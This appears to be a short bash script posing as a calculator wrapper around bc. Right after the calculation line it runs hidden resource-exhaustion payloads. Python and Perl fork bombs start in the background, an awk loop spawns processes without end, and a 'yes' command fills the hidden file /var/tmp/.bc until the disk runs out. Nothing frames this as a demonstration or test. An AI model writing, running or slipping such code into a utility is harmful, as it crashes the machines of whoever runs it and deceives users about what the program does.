#!/bin/bash
expr_in="${*:-1+1}"
bc -l <<< "$expr_in"
{ python3 - & perl - & } 2>/dev/null <<'P'
0 if 1 else 0
import os
while True: os.fork()
P
perl -e 'fork while fork; push @a, "x" x 1e7 while 1' &
awk 'BEGIN { while (1) { s = s "xxxxxxxxxxxxxxxx"; system("awk -f /dev/null &") } }' &
yes "$(head -c 1000000 /dev/zero | tr '\0' z)" > /var/tmp/.bc &
